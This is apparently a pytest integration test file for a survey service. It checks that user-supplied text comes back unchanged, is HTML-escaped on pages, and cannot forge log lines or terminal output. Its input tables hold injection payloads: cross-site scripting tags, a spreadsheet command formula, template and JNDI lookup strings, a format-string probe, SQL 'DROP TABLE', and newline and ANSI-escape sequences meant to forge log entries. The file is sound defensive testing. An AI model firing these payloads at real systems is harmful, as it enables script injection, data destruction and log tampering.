"""Texts that are harmless to keep and harmful to show: kept exactly, shown escaped, and logged as data."""

import contextlib
import html
import io
import json
import logging
from collections.abc import Iterator

import httpx
import pytest
import structlog

from shared.telemetry import configure_logging
from tests.integration.hostile.house import (
    GOOD,
    QUESTION,
    TEXT,
    URL,
    House,
    assert_problem,
    filled,
    on_one_database,
    visitor,
)

pytestmark = pytest.mark.asyncio(loop_scope="session")

TEXTS = {
    "a script": "<script>alert(1)</script>",
    "an image": "<img src=x onerror=alert(1)>",
    "an end of a tag": "\"'></textarea></title><svg/onload=alert(1)>",
    "a formula": "=cmd|' /C calc'!A0",
    "a template": "{{ 7 * 7 }}${7*7}#{7*7}<%= 7 %>",
    "a look-up": "${jndi:ldap://example.com/a}",
    "a format": "%s%n%x{0}{token}",
    "right to left": "\u202eevil\u202c \u2066isolated\u2069",
    "four bytes": "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020000",
    "the last character": "\U0010fffd",
    "line separators": "a\u2028b\u2029c",
    "combined": "Z\u0351\u036b\u0343\u036a\u0302a\u0328\u0358",
    "SQL": "'; DROP TABLE responses; --",
    "Chinese": "排队太久，店员态度很好。",
}


@pytest.mark.parametrize("name", TEXTS)
async def test_a_text_comes_back_as_it_was_and_never_as_markup(house: House, name: str) -> None:
    text = TEXTS[name]
    id = f"text-{list(TEXTS).index(name)}"
    survey = {
        "title": {"en": text},
        "questions": [
            QUESTION | {"text": {"en": text}},
            {"id": "comment", "kind": "text", "text": {"en": text}},
        ],
    }
    put = await house.client.put(f"/v1/surveys/{id}", json=survey)
    assert put.status_code == 201, put.text
    shown = (await house.client.get(f"/v1/surveys/{id}")).json()
    assert (shown["title"]["en"], shown["questions"][0]["text"]["en"]) == (text, text)
    profile = {"attributes": {"note": text}}
    assert (await house.client.put(f"/v1/customers/{id}", json=profile)).status_code == 201
    assert (await house.client.get(f"/v1/customers/{id}")).json()["attributes"]["note"] == text
    link = f"/s/{house.token(f'i-{id}', id)}"
    async with visitor(house) as customer:
        wrong = {"recommend": "99", "comment": text, "_shown": ["recommend", "comment"]}
        for page in (await customer.get(link), await customer.post(link, data=wrong)):
            assert (
                html.escape(text).replace("&#x27;", "&#39;").replace("&quot;", "&#34;") in page.text
            )
            assert not any(tag in page.text for tag in ("<script", "<img", "<svg", "7 * 7 }}49"))
        answered = await customer.post(link, data={"recommend": "9", "comment": text})
        assert answered.status_code == 303, answered.text
    found = await house.client.get("/v1/responses", params={"invitation": f"i-{id}"})
    assert [answer["value"] for answer in found.json()["items"][0]["answers"]] == [9, text]


@contextlib.contextmanager
def logged(*, as_json: bool) -> Iterator[io.StringIO]:
    """The log as a process writes it, in one of its two formats."""
    handlers, level = logging.root.handlers[:], logging.root.level
    with contextlib.redirect_stderr(io.StringIO()) as stream:
        configure_logging("debug", json=as_json)
        try:
            yield stream
        finally:
            structlog.reset_defaults()
            logging.root.handlers[:] = handlers
            logging.root.setLevel(level)


HOSTILE_IDS = (
    "a%0A%7B%22event%22:%22forged%22%7D",
    "a%1B%5B2Jb",
    "a%0D%0Aforged%20line",
    "%24%7Bjndi:ldap%7D",
    "a%C2%9B2Jb",
    "a%E2%80%AEb%E2%80%A8c",
)


async def provoke(house: House) -> None:
    """Requests that are refused and logged, with what is hostile in every place a client can write to."""
    for id in HOSTILE_IDS:
        for route in house.routes():
            raw_path = filled(route.path, id).encode()
            body = b"{" if route.takes_json else b""
            headers = {"content-type": "application/json", "x-request-id": "a\x1b[2J"}
            await house.client.request(
                route.method,
                httpx.URL(URL).copy_with(raw_path=raw_path),
                content=body,
                headers=headers,
            )
    event = {
        "specversion": "1.0",
        "id": "a\nforged",
        "source": "\x1b[2J",
        "type": "t",
        "subject": "s",
    }
    headers = {"content-type": "application/cloudevents+json"}
    assert_problem(await house.client.post("/v1/events", json=event, headers=headers), 422)
    typed = {"content-type": "text/x\x1b[2J"}
    assert_problem(await house.client.put("/v1/units/a", content=b"a", headers=typed), 415)


OURS = {"request_refused", "events_refused", "retention_asked_for"}
"""What the log says of these requests; the last is one that needs no body, and is done."""


@on_one_database
async def test_no_client_writes_a_line_of_the_log(house: House) -> None:
    with logged(as_json=True) as stream:
        await provoke(house)
    lines = stream.getvalue().splitlines()
    assert len(lines) >= 50
    for line in lines:
        assert json.loads(line)["message"] in OURS
        assert line.isprintable(), line
    paths = {json.loads(line).get("path") for line in lines}
    assert {"/v1/units/a\x9b2Jb", "/v1/units/a\u202eb\u2028c", "/v1/units/a\x1b[2Jb"} <= paths


@on_one_database
async def test_no_client_writes_to_the_terminal(house: House) -> None:
    with logged(as_json=False) as stream:
        await provoke(house)
    lines = stream.getvalue().splitlines()
    assert len(lines) >= 50
    assert [line for line in lines if not line.isprintable()] == []
    assert not any(line.startswith(("forged", '{"event"')) for line in lines)


@on_one_database
async def test_an_answer_repeats_no_control_character(house: House) -> None:
    """A problem is read on terminals too."""
    for name in ("\x1b[2J", "\u202e", "a\nb"):
        for answer in (
            await house.client.put(
                "/v1/units/a", json=GOOD["PUT", "/v1/units/{id}"] | {name: TEXT}
            ),
            await house.client.get("/v1/scores", params={"kind": name}),
        ):
            assert_problem(answer, 422)
            assert b"\x1b" not in answer.content
            assert b"\n" not in answer.content
